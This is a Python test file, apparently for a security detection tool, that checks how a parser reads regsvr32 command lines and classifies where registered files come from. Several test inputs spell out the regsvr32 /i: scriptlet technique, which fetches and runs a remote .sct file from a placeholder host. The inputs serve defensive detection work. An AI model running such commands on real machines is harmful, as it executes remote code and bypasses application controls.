"""What a command line asks regsvr32 to do."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from carhound.findings.regsvr32 import extension, is_regsvr32, registration, remote


@pytest.mark.parametrize(
    ("command_line", "files", "argument"),
    [
        ("regsvr32 /s a.dll", ("a.dll",), None),
        (
            '"C:\\Windows\\System32\\regsvr32.exe" /s "C:\\My Files\\a b.dll"',
            ("C:\\My Files\\a b.dll",),
            None,
        ),
        ("regsvr32 /s /n /u /i:http://x/y.sct scrobj.dll", ("scrobj.dll",), "http://x/y.sct"),
        ("regsvr32 -s -I:C:\\a.sct SCROBJ", ("SCROBJ",), "C:\\a.sct"),
        ('regsvr32 /i:"C:\\a b.sct" scrobj.dll', ("scrobj.dll",), "C:\\a b.sct"),
        ("regsvr32 /s/u/i:http://x/y.sct scrobj.dll", ("scrobj.dll",), "http://x/y.sct"),
        ("regsvr32 a.dll /s", ("a.dll",), None),
        ("regsvr32 a.dll b.ocx", ("a.dll", "b.ocx"), None),
        ("regsvr32 //server/share/a.dll", ("//server/share/a.dll",), None),
        (' "C:\\a.dll"', ("C:\\a.dll",), None),  # the 32-bit twin is given no program
        ("/s C:\\a.dll", ("C:\\a.dll",), None),
        (" regsvr32 a.dll", ("a.dll",), None),
        ("msupd.exe /s a.dll", ("a.dll",), None),
        ("regsvr32 /i a.dll", ("a.dll",), None),
        ('regsvr32 "C:\\never closed.dll', ("C:\\never closed.dll",), None),
        ("regsvr32", (), None),
        ("regsvr32 /?", (), None),
        ("", (), None),
    ],
)
def test_what_is_registered(command_line: str, files: tuple[str, ...], argument: str | None) -> None:
    found = registration(command_line)
    assert (found.files, found.argument) == (files, argument)


@pytest.mark.parametrize(
    ("command_line", "sources"),
    [
        ("regsvr32 /i:http://x/y.sct scrobj.dll", ("http://x/y.sct",)),
        ("regsvr32 /i:http://x/y.sct C:\\Windows\\System32\\scrobj.dll", ("http://x/y.sct",)),
        ("regsvr32 /n /i:refresh C:\\App\\a.dll", ("C:\\App\\a.dll",)),
        ("regsvr32 scrobj.dll", ("scrobj.dll",)),
    ],
)
def test_a_scriptlet_stands_for_its_host(command_line: str, sources: tuple[str, ...]) -> None:
    assert registration(command_line).sources == sources


@pytest.mark.parametrize(
    ("source", "kind"),
    [
        ("https://x/y", "URL"),
        ("FTP://x/y", "URL"),
        (r"\\server\share\a.dll", "share"),
        ("//server/share/a.dll", "share"),
        (r"\\?\C:\a.dll", None),
        (r"\\.\C:\a.dll", None),
        (r"C:\a.dll", None),
        ("c://a", None),
        ("a.dll", None),
    ],
)
def test_where_from(source: str, kind: str | None) -> None:
    assert remote(source) == kind


def test_endings_and_names() -> None:
    assert [extension(one) for one in (r"C:\a.b\c", r"C:\a.DLL", "a.dll.txt", ".hidden", "")] == [
        "",
        ".dll",
        ".txt",
        "",
        "",
    ]
    assert is_regsvr32(r"C:\WINDOWS\REGSVR32.EXE")
    assert is_regsvr32("REGSVR32.EXE.MUI")
    assert not is_regsvr32(r"C:\Temp\myregsvr32.exe")
    assert not is_regsvr32(None)


@given(st.text(max_size=200))
def test_any_text_can_be_read(command_line: str) -> None:
    found = registration(command_line)
    assert all(found.files)
    assert len(found.sources) == len(found.files)
